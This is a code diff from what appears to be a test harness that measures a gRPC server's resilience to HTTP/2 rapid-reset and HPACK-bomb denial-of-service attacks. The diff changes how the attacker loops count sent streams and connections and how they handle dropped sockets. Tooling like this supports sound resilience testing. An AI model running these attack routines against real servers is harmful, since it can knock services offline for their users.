@@ -70,14 +70,12 @@ def rapid_reset_attacker(host, port, seconds, sent, connections):
     whenever the server closes one."""
     block = hpack.Encoder().encode(h2raw.REQUEST_HEADERS)
     end = time.monotonic() + seconds
-    streams = opened = 0
     while time.monotonic() < end:
         try:
             sock = h2raw.connect(host, port)
         except OSError:
             time.sleep(0.01)
             continue
-        opened += 1
         stream_id = 1
         while time.monotonic() < end and stream_id < 2**31 - 256:
             try:
@@ -85,14 +83,13 @@ def rapid_reset_attacker(host, port, seconds, sent, connections):
             except OSError:
                 break  # the server closed the connection
             stream_id += 200
-            streams += 100
+            with sent.get_lock():
+                sent.value += 100
             if not h2raw.drain(sock):
                 break
         sock.close()
-    with sent.get_lock():
-        sent.value += streams
-    with connections.get_lock():
-        connections.value += opened
+        with connections.get_lock():
+            connections.value += 1
 
 
 def legitimate_calls(stub, request, grpc, keep_going, rss):
@@ -227,7 +224,10 @@ def hpack_bomb(args, stub, request, grpc):
     for _ in range(args.connections):
         sock = h2raw.connect(host, port)
         for i in range(args.streams):
-            sock.sendall(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1 + 2 * i, block_a))
+            try:
+                sock.sendall(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1 + 2 * i, block_a))
+            except OSError:
+                break  # the server closed the connection
             sent += 1
         socks.append(sock)
         rss()
